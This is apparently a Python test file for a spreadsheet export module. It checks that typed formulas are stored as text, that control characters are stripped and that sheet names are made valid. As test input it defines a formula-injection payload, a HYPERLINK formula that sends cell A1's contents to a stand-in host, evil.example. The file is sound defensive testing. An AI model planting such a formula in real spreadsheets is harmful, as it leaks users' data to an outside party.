"""The one .xlsx writer: what anybody typed is written as text, never as a formula, and the
control characters the file format cannot hold are dropped instead of failing the export."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from taizhang.documents import xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _written(*values):
    def fill(workbook):
        sheet = xlsx.new_sheet(workbook, "表")
        xlsx.write_body_row(sheet, list(values))

    return load_workbook(io.BytesIO(xlsx.workbook_bytes(fill)))["表"]


def test_a_formula_typed_by_someone_is_stored_as_text():
    cell = _written(HOSTILE)["A1"]
    assert (cell.data_type, cell.value) == ("s", HOSTILE)


def test_text_that_starts_like_a_formula_stays_text_when_edited():
    sheet = _written("=1+1", "+86 0854", "-", "@SUM(A1)")
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in sheet[1])


def test_control_characters_are_dropped_not_fatal():
    cell = _written("进展\x0b情况\x1b[0m\x00完成")["A1"]
    assert cell.value == "进展情况[0m完成"


def test_numbers_stay_numbers_and_empty_cells_empty():
    sheet = _written(12, 3.5, None, "")
    assert [c.value for c in sheet[1]][:2] == [12, 3.5]
    assert sheet["A1"].data_type == "n" and sheet["C1"].value is None


def test_sheet_names_are_made_valid():
    def fill(workbook):
        xlsx.new_sheet(workbook, "按县（市、区）/章节:完成情况[2026]统计表与说明附表")

    workbook = load_workbook(io.BytesIO(xlsx.workbook_bytes(fill)))
    (name,) = workbook.sheetnames
    assert len(name) <= 31 and not set(name) & set("[]:*?/\\")
